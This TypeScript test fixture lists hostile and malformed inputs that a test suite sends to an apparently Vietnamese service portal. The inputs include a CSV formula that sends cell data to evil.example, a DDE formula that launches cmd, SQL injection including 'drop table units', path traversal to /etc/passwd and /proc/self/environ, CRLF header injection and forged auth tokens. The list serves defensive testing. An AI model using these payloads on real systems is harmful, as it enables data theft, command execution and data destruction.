/**
 * The classes of hostile and malformed input the suite tries on every surface, with a few
 * values each. A value is text (sent as is, URL-encoded over HTTP) or, for HTTP only, `raw`
 * (put into the URL exactly, to send percent-sequences that are not valid UTF-8).
 */

export interface HostileValue {
  readonly text: string;
  /** HTTP: the already-encoded form to put into the URL instead of encoding `text`. */
  readonly raw?: string;
}

export interface InputClass {
  readonly name: string;
  readonly values: readonly HostileValue[];
}

const v = (text: string, raw?: string): HostileValue => (raw === undefined ? { text } : { text, raw });
const cursor = (key: unknown) => Buffer.from(JSON.stringify(key), 'utf8').toString('base64url');

/** Text classes: every text parameter, flag, argument, setting and string field of a body. */
export const TEXT_CLASSES: readonly InputClass[] = [
  { name: 'NUL byte', values: [v('\u0000'), v('Sở Y tế\u0000'), v('H18\u0000.01')] },
  {
    name: 'control / escape chars',
    values: [
      v('\u001b[2J\u001b[31mH18'),
      v('x\r\nSet-Cookie: a=b'),
      v('\u009b31mSở'),
      v('abc\u202edef'),
      v('back\bspace\u0007'),
    ],
  },
  {
    name: 'CSV formula',
    values: [
      v('=HYPERLINK("http://evil.example/?"&A1,"Bấm")'),
      v("+1+cmd|' /C calc'!A0"),
      v('-2+3'),
      v('@SUM(1+1)'),
      v('\t=1+1'),
    ],
  },
  {
    name: 'bad dates',
    values: [
      v('0000-01-01'),
      v('1899-12-31'),
      v('10000-01-01'),
      v('2026-02-30'),
      v('+002026-01-01'),
      v('2026-11-26T00:00:00Z'),
    ],
  },
  {
    name: 'huge / odd numbers',
    values: [
      v('1e30'),
      v('99999'),
      v('-1'),
      v('1.5'),
      v('NaN'),
      v('Infinity'),
      v('9007199254740993'),
      v('0x10'),
    ],
  },
  { name: 'overlong text', values: [v('x'.repeat(5000)), v('Sở '.repeat(800))] },
  {
    name: 'SQL / LIKE metachars',
    values: [v("' or '1'='1"), v('%_\\'), v("'; drop table units; --"), v('H18%'), v('$1')],
  },
  {
    name: 'bad Unicode',
    values: [
      v('\ud800', '%ED%A0%80'),
      v('\u00c0\u00af', '%C0%AF'),
      v('\ufffe', '%EF%BF%BE'),
      v('x', '%E0%A4%A'),
      v('%', '%'),
    ],
  },
  {
    name: 'forged cursor',
    values: [
      v(cursor(['2026-11-01', 1.5])),
      v(cursor(['0000-01-01', 1])),
      v(cursor(['2026-11-01', 1e300])),
      v(cursor(['2026-11-01', 2026, 0, 'TTTT\u0000', 'X'])),
      v(cursor({ a: 1 })),
      v('not-base64!'),
    ],
  },
  {
    name: 'path traversal',
    values: [
      v('../../../../etc/passwd'),
      v('/proc/self/environ'),
      v('..%2f..%2fetc', '..%2f..%2fetc'),
      v('/dev/zero'),
    ],
  },
  { name: 'empty / blank', values: [v(''), v('   '), v('\u00a0')] },
];

/** Number classes for numeric fields of a portal body (never read as 0, never stored raw). */
export const NUMBER_VALUES: readonly unknown[] = [
  1e30,
  99999,
  -0.01,
  -1e30,
  1e-9,
  2 ** 53 + 1,
  0.005,
  12345.678,
];

/** Values that are the wrong JSON type for a number or a text field (a format change). */
export const WRONG_TYPES: readonly unknown[] = ['7,5', null, true, [], {}];

/** Malformed tokens and cookies for the HTTP token check. */
export const AUTH_VALUES: readonly { header?: string; cookie?: string; query?: string }[] = [
  { cookie: 'dvc_token=%E0%A4%A' },
  { cookie: 'dvc_token=%' },
  { cookie: 'dvc_token' },
  { cookie: `dvc_token=${'x'.repeat(8000)}` },
  { cookie: 'dvc_token=a%00b; dvc_token=HostileTok3n' },
  { header: 'Bearer ' },
  { header: 'Bearer \u00ff\u00fe' },
  { header: `Bearer ${'y'.repeat(8000)}` },
  { header: 'Basic SG9zdGlsZVRvazNu' },
  { query: '%00' },
  { query: 'HostileTok3n%00' },
];
